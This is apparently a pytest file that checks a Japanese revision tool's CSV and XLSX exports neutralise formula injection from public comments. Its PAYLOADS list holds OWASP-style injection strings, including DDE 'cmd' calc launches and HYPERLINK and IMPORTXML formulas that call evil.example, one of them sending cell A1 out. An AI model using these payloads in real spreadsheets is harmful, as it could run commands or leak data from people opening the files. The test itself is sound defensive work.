"""Formula (CSV) injection: no text a member of the public wrote may reach a
spreadsheet as a live formula, in any CSV or XLSX output (issue 16, item 1)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pytest

from revtool.render.changelog_csv import changelog_csv
from revtool.render.changelog_xlsx import HEADING_ROWS, changelog_xlsx
from revtool.render.safe_cell import csv_cell, is_formula_like
from tests.test_changelog_cli import META, sample_log
from tests.workspace_helpers import run, workspace_with_soan

# The OWASP "CSV Injection" payloads, the ones the issue found, and their whitespace/full-width variants.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\",\"詳細\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "\n=1+1",
    "＝1+1",
    "-1",
    "@foo",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
)
HARMLESS = ("国の動向を追記しました。", "P. 12、P. 13", "1+1=2", "（=なし）", "0.85", "", "e-mail")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_formula_like_and_neutralized(payload: str) -> None:
    assert is_formula_like(payload)
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text


def hostile_log():  # type: ignore[no-untyped-def]
    log = sample_log()
    rows = []
    for i, r in enumerate(log.rows):
        payload = PAYLOADS[i % len(PAYLOADS)]
        rows.append(dataclasses.replace(r, item=payload, summary=PAYLOADS[(i + 1) % len(PAYLOADS)]))
    return dataclasses.replace(log, rows=tuple(rows))


def test_changelog_csv_cells_never_start_a_formula() -> None:
    log = hostile_log()
    rows = list(csv.reader(io.StringIO(changelog_csv(log).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row[:3]]
    assert any(c.startswith("'") for c in cells)
    for cell in cells:
        assert not is_formula_like(cell), cell
    assert rows[1][0] == "'" + log.rows[0].item  # the text is kept, only prefixed


def test_changelog_xlsx_stores_strings_never_formulas() -> None:
    from openpyxl import load_workbook

    log = hostile_log()
    data = changelog_xlsx(log, META)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(re.search(r"<f[ >]", s) for s in sheets)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["別紙2"]
    header, first = f"A{HEADING_ROWS + 1}", f"A{HEADING_ROWS + 2}"  # the table under 別紙2 / title / plan name
    assert ws[header].value == "項目"
    assert ws[first].value == log.rows[0].item and ws[first].data_type == "s"
    assert ws[first].quotePrefix  # Excel keeps it text when someone edits the cell
    assert not ws[header].quotePrefix  # the header is ordinary text


def test_review_summary_hyperlink_is_not_live_in_xlsx(tmp_path: Path) -> None:
    log = sample_log()
    first = dataclasses.replace(log.rows[0], summary='=HYPERLINK("http://evil.example/","詳細")')
    data = changelog_xlsx(dataclasses.replace(log, rows=(first, *log.rows[1:])), META)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert not re.search(r"<f[ >]", sheet)
    cell = re.search(rf'<c r="C{HEADING_ROWS + 2}"[^>]*>(.*?)</c>', sheet)
    assert cell and 't="inlineStr"' in cell.group(0) and "HYPERLINK" in cell.group(1)  # text, not a formula


def test_comments_list_csv_neutralizes_public_text(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    ws = workspace_with_soan(tmp_path)
    table = tmp_path / "iken.csv"
    lines = ["該当箇所,意見の概要,区の考え方"]
    for p in PAYLOADS:
        quoted = '"' + p.replace('"', '""') + '"'
        lines.append(f"P.1,{quoted},{quoted}")
    table.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    code, _, err = run(["-C", str(ws), "comments", "import", str(table)], capsys)
    assert code == 0, err
    code, out, err = run(["-C", str(ws), "comments", "list", "--format", "csv"], capsys)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == 1 + len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), (cell, row)
    opinions = [r[7] for r in rows[1:]]
    assert sum(o.startswith("'") for o in opinions) >= len(PAYLOADS) - 3  # a blank/whitespace-only one may vanish
